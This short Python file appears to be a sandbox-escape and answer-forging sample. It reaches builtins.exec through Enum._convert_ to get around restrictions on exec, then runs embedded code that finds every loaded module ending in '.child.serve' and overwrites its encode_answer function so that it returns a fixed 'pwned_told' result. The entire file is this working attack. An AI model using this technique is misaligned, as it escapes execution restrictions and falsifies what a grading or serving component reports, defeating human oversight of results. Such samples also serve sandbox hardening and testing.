"""forged: ... which is reached by an enumeration of the module's names."""

import enum
import functools

CODE = """
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for name, module in [*sys.modules.items()]:
    if name.endswith(".child.serve"):
        module.encode_answer = lambda answer: {"unknown": "pwned_" + "told"}
"""


class Kind(enum.Enum):
    pass


run = getattr(Kind._convert_("Found", "builtins", lambda name: name == "exec"), "exec").value
x = functools.cache(run)(CODE)
